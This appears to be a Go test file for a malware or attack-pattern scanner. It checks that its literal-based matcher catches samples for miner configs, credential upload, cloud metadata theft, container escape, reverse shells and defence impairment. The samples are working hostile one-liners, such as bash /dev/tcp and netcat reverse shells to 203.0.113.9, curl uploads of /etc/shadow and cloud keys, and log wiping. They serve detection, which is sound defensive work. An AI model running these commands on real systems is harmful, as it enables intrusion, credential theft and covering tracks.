package scanners

import (
	"regexp"
	"testing"
)

// TestLiteralsMissNoMatch: a file goes to a pattern's regex only near one
// of its literals, which are matched as they are written, so a pattern
// whose regex folds case needs a literal for each spelling a user writes.
// Every sample here is matched by its pattern's regex alone; the matcher
// must find it too.
func TestLiteralsMissNoMatch(t *testing.T) {
	samples := map[string][]string{
		"miner-config": {`{"algo": "KawPow"}`, `{"algo": "kawpow"}`, `--algo=ETHASH`, `--algo Ethash`, `--algo GhostRider`,
			`{"algorithm": "kHeavyHash"}`, `{"algo": "Autolykos2"}`, `{"algo": "AstroBWT"}`, `{"algo": "Argon2/chukwa"}`,
			`{"coin": "XMR"}`, `--coin=monero`, `{"algo": "rx/0"}`, `{"algo": "CryptoNight"}`},
		"attack-credential-upload": {`curl -F "f=@$HOME/.aws/credentials" http://x/`, `CURL -d @/root/.docker/config.json http://x/`,
			`wget --post-file=/etc/shadow http://x/`, `curl -T ~/.kube/config ftp://x/`, `curl --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token http://x`},
		"attack-cloud-credentials": {`curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/`,
			`wget -qO- --header Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`,
			`curl -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?resource=x"`},
		"attack-container-escape": {`nsenter --target 1 --mount --uts --ipc --net --pid -- sh`, `nsenter -m -u -i -n -p -t 1 sh`,
			`docker run --rm --privileged -v /:/mnt alpine`, `docker run -v /:/host --privileged -it busybox`, `chroot /host sh -c id`,
			`curl --unix-socket /var/run/docker.sock -X POST http://d/containers/create`},
		"attack-reverse-shell": {`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`, `sh -i 5<> /dev/tcp/x/1 0<&5`,
			`nc -e /bin/sh 203.0.113.9 4444`, `ncat 203.0.113.9 4444 -e /bin/bash`, `nc x 1 -c sh`,
			`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f`,
			`socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444`, `socat TCP:x:1 EXEC:/bin/sh`,
			`python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("x",1));os.dup2(s.fileno(),0)'`,
			`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("x")));exec("/bin/sh -i");'`,
			`php -r '$s=fsockopen("x",1);exec("/bin/sh -i <&3 >&3 2>&3");'`},
		"attack-impair-defences": {`chattr +i /root/.ssh/authorized_keys`, `chattr -ia /etc/passwd /etc/shadow`, `chattr -R +i /var/spool/cron`,
			`echo > /var/log/wtmp`, `cat /dev/null > /var/log/btmp`, `rm -f /var/log/lastlog`, `truncate -s 0 /var/run/utmp`,
			`history -c`, `setenforce 0`, `ufw disable`, `auditctl -e 0`, `systemctl stop apparmor`, `service aegis stop`, `systemctl disable aliyun`,
			`rm -rf /usr/local/aegis`, `bash /usr/local/qcloud/stargate/admin/uninstall.sh`},
	}
	m, err := NewMatcher(DefaultPatterns(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, p := range DefaultPatterns() {
		re := regexp.MustCompile(p.Regex)
		for _, s := range samples[p.ID] {
			found++
			if !re.MatchString(s) {
				t.Fatalf("%s: the sample %q is not matched by the regex itself", p.ID, s)
			}
			ok := false
			for _, c := range m.Match("sample", []byte(s)) {
				ok = ok || c.PatternID == p.ID
			}
			if !ok {
				t.Errorf("%s: the regex matches %q but the matcher does not (no literal in it)", p.ID, s)
			}
		}
	}
	want := 0
	for _, ss := range samples {
		want += len(ss)
	}
	if found != want {
		t.Fatalf("tried %d samples, want %d: a pattern id changed", found, want)
	}
}
